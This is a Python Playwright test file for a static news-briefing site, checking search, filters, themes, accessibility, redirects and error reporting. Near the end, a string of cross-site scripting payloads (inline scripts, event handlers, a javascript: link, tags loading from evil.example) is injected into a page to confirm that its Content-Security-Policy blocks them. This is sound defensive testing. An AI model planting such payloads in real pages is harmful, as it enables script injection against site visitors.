"""What a reader does, in a real browser, on a built site below a sub-path."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.pages.factory import HOSTILE, ferry
from tests.site.browser import serve
from tests.site.builder import build_site
from tests.site.conftest import MOVED, PREFIX, WITHDRAWN, Watched

pytestmark = [pytest.mark.site, pytest.mark.browser]

BRIEF = f"briefs/{ferry().path().removesuffix('.md')}/"


def results(page: Any) -> list[str]:
    """Headlines found, once the search has come to rest."""
    page.wait_for_selector(".search__found[aria-busy=false]")
    return [str(text) for text in page.locator(".search__results a").all_text_contents()]


def test_home_shows_the_latest_briefs_first(watched: Watched) -> None:
    page = watched.open()
    headlines = page.locator(".card h3").all_text_contents()
    assert headlines[:2] == [
        "Tunnel day 18: lorries, bread and a long queue",
        "Tunnel day 17: lorries, bread and a long queue",
    ]
    assert page.locator(".md-banner").inner_text().startswith("Sample content")


def test_a_card_leads_to_its_brief(watched: Watched) -> None:
    page = watched.open()
    page.get_by_role("link", name="Corrie tunnel opens nine years late").first.click()
    assert page.locator("h1").inner_text() == "Corrie tunnel opens nine years late"


def test_a_fact_leads_to_its_sentence_marked_in_context(watched: Watched) -> None:
    page = watched.open(BRIEF)
    page.locator("#fact-2 .in-context").click()
    target = page.locator(":target")
    assert target.inner_text() == "Ada Holm, the harbour master, said the boat would carry 220 passengers."
    assert target.evaluate("one => getComputedStyle(one).backgroundColor") == "rgb(255, 226, 122)"
    assert "ending a quarrel of six years." in page.locator(".passage:has(:target)").inner_text()
    page.wait_for_timeout(600)
    assert target.evaluate(
        "one => { const box = one.getBoundingClientRect(); return box.top > 0 && box.bottom < innerHeight; }"
    )


def test_evidence_is_marked_without_javascript(browser: Any, base: str) -> None:
    context = browser.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(f"{base}{BRIEF}#in-quote-2")
    assert page.locator(":target").inner_text() == "The Council owes the islanders a boat. It owes them two."
    context.close()


def test_an_actor_page_gathers_short_and_full_names(watched: Watched) -> None:
    page = watched.open(BRIEF)
    page.locator("#actor-1 .name a").click()
    assert page.locator("h1").inner_text() == "Ada Holm"
    assert "stayed away from the opening" in page.locator(".facts").inner_text()
    page.locator(".quotes .in-context").first.click()
    assert page.locator(":target").inner_text() == "We have waited long enough,"


def test_the_sign_of_evidence_stays_on_the_line_of_its_words_and_fits_a_finger(watched: Watched) -> None:
    page = watched.open()
    for width in range(320, 500, 12):
        page.set_viewport_size({"width": width, "height": 900})
        told = page.evaluate("""() => [...document.querySelectorAll(".said-by .source .sign")].map(one => {
            const words = [...one.parentElement.querySelector("a:not(.sign)").getClientRects()].at(-1);
            const sign = one.getBoundingClientRect();
            const is_beside = sign.top < words.bottom && sign.bottom > words.top && sign.left >= words.right - 1;
            return [is_beside, sign.width >= 24, sign.height >= 24];
        })""")
        assert told
        assert all(all(one) for one in told), width


@pytest.mark.parametrize("key", ["/", "s", "Control+k"])
def test_search_opens_by_key_and_finds(watched: Watched, key: str) -> None:
    page = watched.open()
    page.keyboard.press(key)
    page.keyboard.type("waited long")
    assert "Harbour council votes for a second ferry" in results(page)
    assert page.url.endswith("?q=waited+long")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.wait_for_selector(".page--brief")


def test_search_narrows_down_by_filter(watched: Watched) -> None:
    page = watched.open("?q=tunnel")
    assert len(results(page)) == 7
    page.locator("details[data-facet=month] label", has_text="April 2031").locator("input").check()
    page.locator("details[data-facet=actor] label", has_text="Ilse Marrable").locator("input").check()
    assert all("unnel" in found for found in results(page))
    assert "month=2031-04" in page.url
    assert "actor=Ilse+Marrable" in page.url


def test_search_by_filter_alone_and_by_source(watched: Watched) -> None:
    page = watched.open("?source=The+Skeld+Gazette&sort=newest")
    assert results(page) == [f"Ferry day {day}" for day in range(11, 4, -1)]


def test_search_narrows_down_to_a_section(watched: Watched) -> None:
    page = watched.open("?q=holm&section=Roads+and+rail")
    assert len(results(page)) == 7
    assert all("unnel" in found for found in results(page))
    label = page.locator("details[data-facet=section] label", has_text="Roads and rail")
    assert label.locator(".count").inner_text() == "7"


def test_names_that_javascript_knows_are_counted_like_others(watched: Watched) -> None:
    page = watched.open("?q=what+we+said")
    results(page)
    shown = page.locator("details[data-facet=topic] label").evaluate_all("all => all.map(one => one.textContent)")
    assert {"constructor1", "__proto__1"} <= set(shown)


def test_search_says_when_nothing_is_found(watched: Watched) -> None:
    page = watched.open("?q=zzqq")
    assert results(page) == []
    assert page.locator(".search__status").inner_text().startswith("Nothing found")


def test_sorting_loses_nothing_and_counts_pages_once(watched: Watched) -> None:
    page = watched.open("?q=holm&sort=oldest")
    assert results(page)[0] == "Undated ferry"
    assert page.locator(".search__status").inner_text() == "17 results"
    count = page.locator("details[data-facet=speaker] label", has_text="Ada Holm").locator(".count").inner_text()
    assert int(count) == 10


def test_search_finds_actors(watched: Watched) -> None:
    page = watched.open("?q=marrable&kind=Actor")
    assert results(page) == ["Ilse Marrable"]


def test_light_and_dark(watched: Watched) -> None:
    page = watched.open()
    ground = "() => getComputedStyle(document.body).backgroundColor"
    assert page.evaluate(ground) == "rgb(251, 250, 246)"
    page.locator("label[title='Switch to light mode']").click()
    page.locator("label[title='Switch to dark mode']").click()
    assert page.evaluate(ground) == "rgb(20, 24, 27)"
    page.reload()
    assert page.evaluate(ground) == "rgb(20, 24, 27)"


def test_the_system_decides_until_the_reader_does(browser: Any, base: str) -> None:
    context = browser.new_context(color_scheme="dark")
    page = context.new_page()
    page.goto(base)
    assert page.evaluate("() => getComputedStyle(document.body).backgroundColor") == "rgb(20, 24, 27)"
    context.close()


@pytest.mark.parametrize(("scheme", "ground"), [("light", "rgb(251, 250, 246)"), ("dark", "rgb(20, 24, 27)")])
def test_without_javascript_the_system_decides(browser: Any, base: str, scheme: str, ground: str) -> None:
    context = browser.new_context(color_scheme=scheme, java_script_enabled=False)
    page = context.new_page()
    page.goto(base)
    assert page.locator("body").evaluate("one => getComputedStyle(one).backgroundColor") == ground
    context.close()


def test_an_error_is_reported_with_the_page_and_the_statement(browser: Any, docs: Path, tmp_path: Path) -> None:
    report = "https://desk.example/new?title={title}&body={page}"
    reported: list[str] = []
    context = browser.new_context()
    page = context.new_page()
    page.route("https://desk.example/**", lambda route: (reported.append(route.request.url), route.abort()))
    site = build_site(docs, tmp_path / "site", extra={"report": report})
    with serve(site, PREFIX) as base:
        page.goto(f"{base}{BRIEF}")
        link = page.get_by_role("link", name="Report an error", exact=True)
        asked = parse_qs(urlsplit(link.get_attribute("href")).query)
        assert asked == {"title": [ferry().title], "body": [f"https://example.org{PREFIX}{BRIEF}"]}
        own = page.locator("#quote-2 .report-item")
        assert parse_qs(urlsplit(own.get_attribute("href")).query)["body"] == [
            f"https://example.org{PREFIX}{BRIEF}#quote-2"
        ]
        items = page.locator(":is([id^=fact-], [id^=quote-], [id^=figure-], [id^=actor-])")
        assert page.locator(".report-item").count() == items.count()
        page.locator("#fact-2 .in-context").click()
        link.click()
        page.goto(f"{base}{BRIEF}#%")
        assert page.locator(".report-item").count() == items.count(), "no address stops the script"
    context.close()
    assert parse_qs(urlsplit(reported[0]).query)["body"] == [f"https://example.org{PREFIX}{BRIEF}#in-fact-2"]


def test_hostile_text_is_shown_as_it_is(watched: Watched) -> None:
    page = watched.open()
    page.get_by_role("link", name=re.compile("script>alert")).first.click()
    assert page.locator("h1").inner_text() == HOSTILE
    assert page.title() == f"{HOSTILE} - Briefing"
    assert page.locator(".page script:not([type='application/ld+json']), .page img, .page strong").count() == 0
    assert page.locator("a[href^='javascript:']").count() == 0


def test_not_found_offers_search(watched: Watched) -> None:
    page = watched.open("nowhere/at/all/")
    assert page.locator("h1").inner_text() == "Page not found"
    page.locator(".page [data-search-open]").click()
    page.keyboard.type("tunnel")
    assert len(results(page)) == 7
    assert all("404" in one for one in watched.complaints)
    watched.complaints.clear()


def test_right_to_left_text_starts_at_the_right(watched: Watched) -> None:
    page = watched.open(BRIEF)
    measure = """() => {
      const text = document.querySelector('.facts .verbatim').closest('p');
      text.querySelector('.verbatim').textContent = 'صوت مجلس المرفأ';
      const range = document.createRange();
      range.selectNodeContents(text.querySelector('.verbatim'));
      return text.getBoundingClientRect().right - range.getBoundingClientRect().right;
    }"""
    assert page.evaluate(measure) < 5


@pytest.mark.parametrize("scripted", [True, False])
def test_an_old_address_leads_to_the_brief(browser: Any, base: str, scripted: bool) -> None:
    context = browser.new_context(java_script_enabled=scripted)
    page = context.new_page()
    page.goto(f"{base}briefs/{MOVED.removesuffix('.md')}/#in-fact-2")
    page.wait_for_url(re.compile(re.escape(base + BRIEF)))
    assert page.locator("h1").inner_text() == ferry().title
    assert not scripted or page.url.endswith("#in-fact-2")
    context.close()


def test_an_old_address_leads_on_without_directory_urls(browser: Any, docs: Path, tmp_path: Path) -> None:
    site = build_site(docs, tmp_path / "site", use_directory_urls=False)
    context = browser.new_context()
    page = context.new_page()
    with serve(site, PREFIX) as base:
        page.goto(f"{base}briefs/{MOVED.removesuffix('.md')}.html")
        page.wait_for_url(f"{base}{BRIEF.removesuffix('/')}.html")
    context.close()


def test_a_withdrawn_brief_says_so(watched: Watched) -> None:
    page = watched.open(f"briefs/{WITHDRAWN.removesuffix('.md')}/")
    assert "withdrawn" in page.locator(".page").inner_text()
    assert page.locator("meta[name=robots]").get_attribute("content") == "noindex"


@pytest.mark.parametrize("where", ["", BRIEF, "archive/2031/04/", "nowhere/"])
def test_the_first_key_leads_past_the_header(browser: Any, base: str, where: str) -> None:
    page = browser.new_page()
    page.goto(base + where)
    page.keyboard.press("Tab")
    skip = page.locator(":focus")
    assert (skip.inner_text(), skip.evaluate("one => getComputedStyle(one).opacity")) == ("Skip to content", "1")
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    assert page.evaluate("() => document.activeElement.closest('.page') !== null")
    page.close()


# The theme's switch of colours is a hidden field that its label shows.
LOOK = """focused => {
  const shown = focused.matches('.md-option') ? focused.parentElement.querySelector('label:not([hidden])') : focused;
  const style = getComputedStyle(shown);
  return style.outlineStyle + style.opacity + style.visibility;
}"""


def test_what_has_the_focus_is_outlined(browser: Any, base: str) -> None:
    page = browser.new_page()
    page.goto(base + BRIEF)
    bare = []
    for _ in range(30):
        page.keyboard.press("Tab")
        if page.locator(":focus").evaluate(LOOK) != "solid1visible":
            bare.append(page.locator(":focus").evaluate("one => one.outerHTML"))
    assert bare == []
    page.close()


# Markup as an escape that failed would leave it: of each kind, what would set a mark if it ran.
SMUGGLED = """
<script>window.ran = "script"</script><script src="https://evil.example/x.js"></script>
<script src="data:text/javascript,window.ran='data'"></script>
<img src="x-missing" onerror="window.ran = 'handler'"><svg onload="window.ran = 'svg'"></svg>
<a id="smuggled" href="javascript:void(window.ran='address')">x</a>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe>
<base href="https://evil.example/"><object data="https://evil.example/x"></object>
<link rel="stylesheet" href="https://evil.example/x.css"><img src="https://evil.example/x.png">
"""


@pytest.mark.parametrize("is_guarded", [True, False])
def test_the_policy_stops_what_would_come_through(is_guarded: bool, browser: Any, base: str) -> None:
    """Should an escape fail: the page runs nothing, and asks no other host for anything. Without it, it would."""
    context = browser.new_context()
    page, reached = context.new_page(), list[str]()

    def smuggle(route: Any) -> None:
        response = route.fetch()
        text = response.text()
        assert "<body" in text
        assert "Content-Security-Policy" in text
        text = text if is_guarded else text.replace("Content-Security-Policy", "x")
        route.fulfill(response=response, body=re.sub(r"(<body[^>]*>)", lambda found: found[1] + SMUGGLED, text))

    page.add_init_script("addEventListener('securitypolicyviolation', e => (window.stopped ??= []).push(e.blockedURI))")
    page.route(base + BRIEF, smuggle)
    # What the policy stops is never handed to the network, hence not to this handler either.
    page.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))
    page.goto(base + BRIEF, wait_until="networkidle")
    page.locator("#smuggled").dispatch_event("click")
    ran, stopped = page.evaluate("window.ran"), page.evaluate("window.stopped") or []
    context.close()
    assert (ran is None, reached == []) == (is_guarded, is_guarded)
    assert ("inline" in stopped) is is_guarded
    assert any(url.startswith("https://evil.example/") for url in stopped) is is_guarded
